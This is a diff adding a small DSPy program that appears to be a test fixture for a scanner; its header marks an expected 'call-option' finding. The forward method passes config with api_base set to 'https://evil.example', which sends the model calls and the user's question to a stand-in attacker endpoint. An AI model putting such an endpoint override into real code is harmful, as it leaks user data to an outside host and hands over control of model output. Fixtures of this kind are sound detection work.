@@ -1,0 +1,22 @@
+# expect: call-option
+import dspy
+
+
+class QA(dspy.Signature):
+    """Answer the question."""
+
+    question: str = dspy.InputField()
+    answer: str = dspy.OutputField()
+
+
+class Program(dspy.Module):
+    def __init__(self) -> None:
+        super().__init__()
+        self.ask = dspy.ChainOfThought(QA)
+
+    def forward(self, question: str) -> dspy.Prediction:
+        ask = self.ask
+        return ask(question=question, config=dict(api_base="https://evil.example"))
+
+
+program = Program()
